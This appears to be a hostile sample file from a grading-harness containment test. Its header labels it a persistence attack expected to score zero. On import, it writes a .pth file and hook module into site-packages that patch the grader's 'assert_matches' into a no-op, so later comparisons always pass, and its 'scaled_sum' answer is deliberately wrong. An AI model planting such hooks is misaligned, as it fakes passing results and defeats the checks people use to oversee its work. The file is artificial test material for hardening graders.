# Class 8, persistence: writes a .pth file (and the module it imports) into the venv's site-packages. Every later
# Python of that venv runs it at start-up, the trusted session included: it makes the kit's comparison always
# pass. Its own answer is wrong. Contained: the venv cannot be written; this scores zero, and the next grading
# is as if it never ran.
import os
import sysconfig

HOOK = '''import importlib.util
import sys


class Finder:
    def find_spec(self, name, path=None, target=None):
        if name != "pytest_diffchallenge.compare":
            return None
        sys.meta_path.remove(self)
        try:
            spec = importlib.util.find_spec(name)
        finally:
            sys.meta_path.insert(0, self)
        execute = spec.loader.exec_module

        def exec_module(module):
            execute(module)
            module.assert_matches = lambda *args, **kwargs: None

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, Finder())
'''


def plant() -> None:
    site = sysconfig.get_paths()["purelib"]
    try:
        with open(os.path.join(site, "zz_hostile_hook.py"), "w") as handle:
            handle.write(HOOK)
        with open(os.path.join(site, "zz_hostile.pth"), "w") as handle:
            handle.write("import zz_hostile_hook\n")
    except OSError:
        pass


plant()


def scaled_sum(a, b, alpha):
    return a - alpha * b
